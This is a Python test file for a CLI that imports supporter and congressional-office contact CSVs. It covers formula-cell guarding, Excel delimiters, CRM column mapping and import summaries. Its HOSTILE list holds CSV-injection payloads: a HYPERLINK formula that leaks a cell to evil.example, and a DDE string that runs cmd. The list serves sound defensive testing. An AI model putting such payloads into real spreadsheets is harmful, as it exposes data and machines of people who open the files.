"""CSV in and out through the command line: formula cells, Excel's delimiters, CRM columns,
import summaries, the contacts template and `legislators list --format`."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest

from capitolmail.config import load_settings
from capitolmail.outbox import Store
from capitolmail.recipients.contacts import load_contacts
from capitolmail.recipients.legislators import workspace_roster

from .conftest import Invoke

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "=1+1 with a space before",
    "'=already looks guarded",
    "''@twice",
]
# HOSTILE as an import reads it.
READ_AS = [*HOSTILE[:5], "=already looks guarded", "'@twice"]
FORMULA_STARTS = ("=", "+", "-", "@")
SUPPORTERS_HEADER = "email,first_name,last_name,postal_code,consent\n"


def _store(workspace: Path) -> Store:
    return Store.open(load_settings(workspace).database_url_for(workspace))


def _raw_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _assert_no_formula_cell(path: Path) -> None:
    for cell in _raw_cells(path):
        assert not cell.startswith(("\t", "\r")), (path, cell)
        assert not cell.lstrip().startswith(FORMULA_STARTS), (path, cell)


def _csv_line(*cells: str) -> str:
    quoted = ['"' + cell.replace('"', '""') + '"' for cell in cells]
    return ",".join(quoted) + "\n"


# -- CSV injection ------------------------------------------------------------------------------


def test_hostile_names_round_trip_through_the_rejected_rows_report(
    cli: Invoke, workspace: Path
) -> None:
    names = [*HOSTILE, " =1+1", "\t=1+1"]
    source = workspace / "in.csv"
    rows = [
        _csv_line(f"not-an-address-{i}", name, "Doe", "10001", "yes")
        for i, name in enumerate(names)
    ]
    source.write_text(SUPPORTERS_HEADER + "".join(rows), encoding="utf-8")
    report = workspace / "rejected.csv"

    result = cli("supporters", "import", str(source), "--report", str(report))

    assert result.exit_code == 0, result.stderr
    _assert_no_formula_cell(report)
    # The staffer fixes the addresses in the report and imports it as it is.
    fixed = re.sub(r"not-an-address-(\d+)", r"p\1@example.org", report.read_text(encoding="utf-8"))
    report.write_text(fixed, encoding="utf-8")

    again = cli("supporters", "import", str(report), "--report", str(workspace / "r2.csv"))

    assert again.exit_code == 0, again.stderr
    assert "0 rejected" in again.stderr.splitlines()[0], again.stderr
    with _store(workspace) as store:
        stored = [s.first_name for s in store.list_supporters(limit=100)]
    # What the first import read, exactly: cells are trimmed, and a quote before a
    # formula start is the guard a spreadsheet or this tool added, so it is taken off.
    assert sorted(stored) == sorted(READ_AS + ["=1+1", "=1+1"])


def test_contacts_import_guards_the_rewritten_offices_csv_and_reads_it_back(
    cli: Invoke, workspace: Path
) -> None:
    source = workspace / "new-offices.csv"
    rows = [
        _csv_line("S000033", f"staff{i}@senate.example.org", name, "Chief of Staff")
        for i, name in enumerate(HOSTILE)
    ]
    rows.append(_csv_line("X999999", "x@senate.example.org", "=BAD()", "@role"))
    source.write_text("bioguide,email,name,role\n" + "".join(rows), encoding="utf-8")

    result = cli("contacts", "import", str(source), "--skip-invalid")

    assert result.exit_code == 0, result.stderr
    offices = workspace / "recipients" / "offices.csv"
    rejects = workspace / "recipients" / "offices.rejects.csv"
    _assert_no_formula_cell(offices)
    _assert_no_formula_cell(rejects)
    contacts = load_contacts(
        offices, workspace_roster(workspace), display_path="recipients/offices.csv"
    )
    assert [c.name for c in contacts] == READ_AS
    # The rejects report imports as it is once fixed: its line/field/reason columns are ignored.
    rejects.write_text(rejects.read_text(encoding="utf-8").replace("X999999", "W000800"))
    again = cli("contacts", "import", str(rejects))
    assert again.exit_code == 0, again.stderr
    (contact,) = load_contacts(offices, workspace_roster(workspace), display_path="o.csv")
    assert (contact.bioguide, contact.name, contact.role) == ("W000800", "=BAD()", "@role")


# -- Excel's delimiters, BOM and CRLF -----------------------------------------------------------


def _excel(text: str, delimiter: str) -> bytes:
    """As Excel saves "CSV UTF-8" where the list separator is not a comma."""
    return ("\ufeff" + text.replace(",", delimiter).replace("\n", "\r\n")).encode()


@pytest.mark.parametrize(("delimiter", "note"), [(";", "';'"), ("\t", "tabs")])
def test_contacts_import_reads_excel_semicolons_and_tabs(
    cli: Invoke, workspace: Path, delimiter: str, note: str
) -> None:
    source = workspace / "excel.csv"
    source.write_bytes(
        _excel(
            "bioguide,email,name,role\n"
            "S000033,cos@senate.example.org,Alex Rivera,Chief of Staff\n"
            "W000800,la@senate.example.org,Jo Smith,Defense LA\n",
            delimiter,
        )
    )

    result = cli("contacts", "import", str(source))

    assert result.exit_code == 0, result.stderr
    assert result.stderr.splitlines() == [
        f"Wrote 2 contacts to recipients/offices.csv (columns separated by {note})."
    ]
    offices = workspace / "recipients" / "offices.csv"
    assert offices.read_text(encoding="utf-8").splitlines()[-2:] == [
        "S000033,cos@senate.example.org,Alex Rivera,Chief of Staff",
        "W000800,la@senate.example.org,Jo Smith,Defense LA",
    ]


def test_supporters_and_suppressions_read_semicolons_with_excel_sep_line(
    cli: Invoke, workspace: Path
) -> None:
    supporters = workspace / "supporters-excel.csv"
    supporters.write_bytes(
        b"sep=;\r\n" + _excel(SUPPORTERS_HEADER + "jane@example.org,Jane,Doe,10001,yes\n", ";")[3:]
    )
    suppressed = workspace / "suppressed.csv"
    suppressed.write_bytes(_excel("email,reason\nold@example.org,bounce\n", ";"))

    imported = cli("supporters", "import", str(supporters))
    suppressed_result = cli("suppress", "import", str(suppressed))

    assert imported.exit_code == 0, imported.stderr
    assert imported.stderr.splitlines()[0] == (
        "Read 1 rows from supporters-excel.csv (columns separated by ';'): 1 new, 0 updated, "
        "0 duplicates merged, 0 rejected."
    )
    assert suppressed_result.exit_code == 0, suppressed_result.stderr
    assert suppressed_result.stderr.splitlines() == [
        "Suppressed 1 addresses from suppressed.csv (1 rows, columns separated by ';')."
    ]
    with _store(workspace) as store:
        assert [s.postal_code for s in store.list_supporters()] == ["10001"]
        assert [(e.email, e.reason.value) for e in store.list_suppressions()] == [
            ("old@example.org", "bounce")
        ]


def test_signers_with_semicolons_render_the_same_letter(cli: Invoke, workspace: Path) -> None:
    signers = workspace / "letters" / "block-arms-sale" / "signers.csv"
    before = cli("letters", "check", "block-arms-sale")
    text = signers.read_text(encoding="utf-8")
    rows = list(csv.reader(line for line in text.splitlines(keepends=True) if line[:1] != "#"))
    out = ["# comments stay comments\n"]
    out += [";".join('"' + c + '"' if ";" in c else c for c in row) + "\n" for row in rows]
    signers.write_bytes(("\ufeff" + "".join(out).replace("\n", "\r\n")).encode())

    after = cli("letters", "check", "block-arms-sale")

    assert before.exit_code == after.exit_code == 0, after.stderr
    assert after.stdout.splitlines()[-1:] == before.stdout.splitlines()[-1:]
    assert "unknown column" not in after.stdout + after.stderr


# -- CRM column names and --map ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "used"),
    [
        (
            "Email Address,First Name,Last Name,Zip Code,OPTIN_TIME,TAGS",
            'Columns used: email from "Email Address", first_name from "First Name", '
            'last_name from "Last Name", postal_code from "Zip Code", consent from '
            '"OPTIN_TIME", tags from "TAGS".',
        ),
        (
            "email,first_name,last_name,zip_code,consent,can2_state_abbreviated",
            'Columns used: postal_code from "zip_code", state from "can2_state_abbreviated".',
        ),
        ("Email,FirstName,LastName,ZIP,Consent,State", None),
    ],
    ids=["mailchimp", "action-network", "everyaction"],
)
def test_supporters_import_accepts_crm_column_names(
    cli: Invoke, workspace: Path, header: str, used: str | None
) -> None:
    source = workspace / "export.csv"
    source.write_text(
        header + "\njane@example.org,Jane,Doe,10001,2024-05-01 10:00:00,NY\n", encoding="utf-8"
    )

    result = cli("supporters", "import", str(source))

    assert result.exit_code == 0, result.stderr
    lines = result.stderr.splitlines()
    assert lines[0].startswith("Read 1 rows from export.csv: 1 new"), lines
    if used is None:
        assert lines[1].startswith('Columns used: email from "Email"'), lines
    else:
        assert lines[1] == used
    with _store(workspace) as store:
        (jane,) = store.list_supporters()
    assert (jane.email, jane.first_name, jane.postal_code, jane.consent) == (
        "jane@example.org",
        "Jane",
        "10001",
        True,
    )


def test_supporters_import_map_names_columns_the_table_does_not_know(
    cli: Invoke, workspace: Path
) -> None:
    source = workspace / "export.csv"
    source.write_text(
        "Correo,Nombre,Apellido,Codigo,consent\nana@example.org,Ana,Ruiz,10001,yes\n",
        encoding="utf-8",
    )
    args = ["--map", 'email="Correo"', "--map", "first_name=Nombre", "--map", "last_name=Apellido"]

    missing = cli("supporters", "import", str(source), *args)
    mapped = cli("supporters", "import", str(source), *args, "--map", "postal_code=Codigo")

    assert missing.exit_code == 1
    assert missing.stderr.splitlines() == [
        'Error: export.csv:1: missing column "postal_code"; the header '
        "needs email,first_name,last_name,postal_code,consent (and may have "
        'state,district,tags), or name it with --map postal_code="…"; nothing was imported'
    ]
    assert mapped.exit_code == 0, mapped.stderr
    assert mapped.stderr.splitlines()[1] == (
        'Columns used: email from "Correo", first_name from "Nombre", last_name from '
        '"Apellido", postal_code from "Codigo".'
    )


@pytest.mark.parametrize(
    ("header", "args", "message"),
    [
        (
            "Email Address,Preferred Email,first_name,last_name,zip,consent",
            [],
            'Error: export.csv:1: email: "Email Address" and "Preferred Email" could both be '
            'email; choose one with --map email="…"',
        ),
        (
            "email,first_name,last_name,zip,consent",
            ["--map", "email=Mail"],
            'Error: export.csv:1: --map email="Mail": the header has no such column '
            '(did you mean "email"?)',
        ),
        (
            "email,first_name,last_name,zip,consent",
            ["--map", "emial=email"],
            'Error: export.csv:1: --map emial=…: unknown column (did you mean "email"?)',
        ),
    ],
    ids=["ambiguous", "no-such-column", "unknown-ours"],
)
def test_supporters_import_refuses_a_column_it_cannot_place(
    cli: Invoke, workspace: Path, header: str, args: list[str], message: str
) -> None:
    source = workspace / "export.csv"
    source.write_text(header + "\nx@example.org,y@example.org,A,B,10001,yes\n")

    result = cli("supporters", "import", str(source), *args)

    assert result.exit_code == 1
    assert result.stderr.splitlines() == [message]
    with _store(workspace) as store:
        assert store.count_supporters() == 0


# -- import summaries --------------------------------------------------------------------------


def test_supporters_import_shows_ten_problems_and_the_count_by_cause(
    cli: Invoke, workspace: Path
) -> None:
    source = workspace / "crm.csv"
    bad = "".join(f"person{i}.example.org,P,Q,10001,yes\n" for i in range(169))
    zips = "".join(f"zip{i}@example.org,P,Q,1234,yes\n" for i in range(3))
    source.write_text(SUPPORTERS_HEADER + bad + zips + "ok@example.org,O,K,10001,yes\n")
    report = workspace / "rejected.csv"

    result = cli("supporters", "import", str(source), "--report", str(report))

    assert result.exit_code == 0, result.stderr
    lines = result.stderr.splitlines()
    assert lines[0].startswith("Read 173 rows from crm.csv: 1 new, 0 updated"), lines
    rejected = [line for line in lines if line.startswith("Rejected: ")]
    assert len(rejected) == 10
    assert rejected[0].startswith("Rejected: crm.csv:2: email: ")
    assert lines[11:] == [
        "… and 162 more rejected rows. Problems by cause:",
        '  169 × email: "…" is not a valid address (An email address must have an @-sign); '
        "correct it",
        f"  3 × postal_code: {_zip_cause(lines)}",
        "Rejected rows (with line, field and reason) are in rejected.csv; fix them there and "
        "import that file.",
    ]
    assert len(_raw_cells(report)) == 8 * (1 + 172)  # the header and 172 rows, 8 cells each


def _zip_cause(lines: list[str]) -> str:
    (line,) = [line for line in lines if line.startswith("  3 × postal_code: ")]
    assert "1234" not in line  # the value is left out, so one cause counts all three
    return line.removeprefix("  3 × postal_code: ")


def test_contacts_import_refusal_summarises_and_writes_the_rejected_rows(
    cli: Invoke, workspace: Path
) -> None:
    offices = workspace / "recipients" / "offices.csv"
    before = offices.read_bytes()
    source = workspace / "team.csv"
    rows = "".join(f"S000033,,Staffer {i},Defense LA\n" for i in range(30))
    source.write_text("bioguide,email,name,role\n" + rows + "Q000000,q@x.example.org,Q,LA\n")

    result = cli("contacts", "import", str(source))

    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert len(lines) == 10 + 4
    assert lines[0] == (
        f"Error: {source}:2: email: empty; fill in the staff member's address or delete the row"
    )
    assert lines[10] == "Error: … and 21 more problems. Problems by cause:"
    assert lines[11] == (
        "Error:   30 × email: empty; fill in the staff member's address or delete the row"
    )
    assert lines[12].startswith('Error:   1 × bioguide: unknown bioguide id "…"')
    (report,) = (workspace / ".capitolmail" / "reports").glob("contacts-rejected-*.csv")
    assert lines[13] == (
        "Error: Nothing was imported. The 31 rejected rows (with line, field and reason) are "
        f"in .capitolmail/reports/{report.name}."
    )
    with report.open(encoding="utf-8", newline="") as handle:
        assert [row["line"] for row in csv.DictReader(handle)] == [str(n) for n in range(2, 33)]
    assert offices.read_bytes() == before


# -- contacts template and legislators list --format -------------------------------------------


def test_contacts_template_writes_a_row_per_office_and_role(cli: Invoke, workspace: Path) -> None:
    target = workspace / "team-offices.csv"

    result = cli(
        "contacts",
        "template",
        "--committee",
        "SSAS",
        "--roles",
        "Defense LA, Chief of Staff",
        "-o",
        str(target),
    )

    assert result.exit_code == 0, result.stderr
    members = json.loads(
        cli("legislators", "list", "--committee", "SSAS", "--format", "json").stdout
    )
    with target.open(encoding="utf-8", newline="") as handle:
        lines = [line for line in handle if not line.startswith("#")]
    rows = list(csv.DictReader(lines))
    assert result.stderr.splitlines() == [
        f"Wrote {2 * len(members)} rows ({len(members)} offices) to team-offices.csv; fill in "
        "email and name, then run `capitolmail contacts import` on it."
    ]
    assert [(r["bioguide"], r["role"]) for r in rows] == [
        (m["bioguide"], role) for m in members for role in ("Defense LA", "Chief of Staff")
    ]
    first = rows[0]
    assert (first["email"], first["name"]) == ("", "")
    assert (first["member"], first["office_phone"], first["office_address"]) == (
        members[0]["name"],
        members[0]["phone"],
        members[0]["address"],
    )

    # Filled in, it imports as it is.
    filled = target.read_text(encoding="utf-8").splitlines(keepends=True)
    for number, line in enumerate(filled):
        if line[:1] not in ("#", "b"):
            bioguide, _, _, rest = line.split(",", 3)
            filled[number] = f"{bioguide},s{number}@senate.example.org,Staffer {number},{rest}"
    target.write_text("".join(filled), encoding="utf-8")
    imported = cli("contacts", "import", str(target))
    assert imported.exit_code == 0, imported.stderr
    assert imported.stderr.startswith(f"Wrote {2 * len(members)} contacts")


def test_contacts_template_refuses_to_overwrite_without_force(cli: Invoke, workspace: Path) -> None:
    target = workspace / "mine.csv"
    target.write_text("keep me\n")
    args = ["contacts", "template", "--state", "VT", "--roles", "Chief of Staff", "-o", str(target)]

    refused = cli(*args)
    assert refused.exit_code == 1
    assert refused.stderr.splitlines() == [
        f"Error: {target} already exists; choose another file or add --force"
    ]
    assert target.read_text() == "keep me\n"

    forced = cli(*args, "--force")
    assert forced.exit_code == 0, forced.stderr
    assert "S000033,,,Chief of Staff,Bernard Sanders" in target.read_text()


def test_legislators_list_formats_agree(cli: Invoke) -> None:
    table = cli("legislators", "list", "--state", "VT")
    as_csv = cli("legislators", "list", "--state", "VT", "--format", "csv")
    as_json = cli("legislators", "list", "--state", "VT", "--format", "json")

    assert table.exit_code == as_csv.exit_code == as_json.exit_code == 0
    rows = list(csv.DictReader(as_csv.stdout.splitlines()))
    assert rows == json.loads(as_json.stdout)
    assert [row["bioguide"] for row in rows] == ["S000033", "W000800", "B001318"]
    assert rows[0]["phone"] == "202-224-5141"
    assert all(row["bioguide"] in table.stdout for row in rows)
    assert as_csv.stderr == as_json.stderr == table.stderr


def test_an_over_long_role_is_refused_naming_the_row_and_field(
    cli: Invoke, workspace: Path
) -> None:
    """A role is stored in the outbox's 100-character column (PostgreSQL refuses more): an
    over-long one is a problem of its row, like a line break, not a database error. A long
    name is cut to 200 when composed (tests/letters/test_compose.py), so it is accepted."""
    offices = workspace / "recipients" / "offices.csv"
    before = offices.read_bytes()
    source = workspace / "team.csv"
    source.write_text(
        "bioguide,email,name,role\n"
        f"S000033,a@x.example.org,{'N' * 201},LA\n"
        f"S000033,b@x.example.org,Sam,{'R' * 101}\n"
    )
    result = cli("contacts", "import", str(source))
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        f"Error: {source}:3: role: is 101 characters long; keep it under 100"
    )
    assert "Nothing was imported. The 1 rejected row" in result.stderr
    assert offices.read_bytes() == before
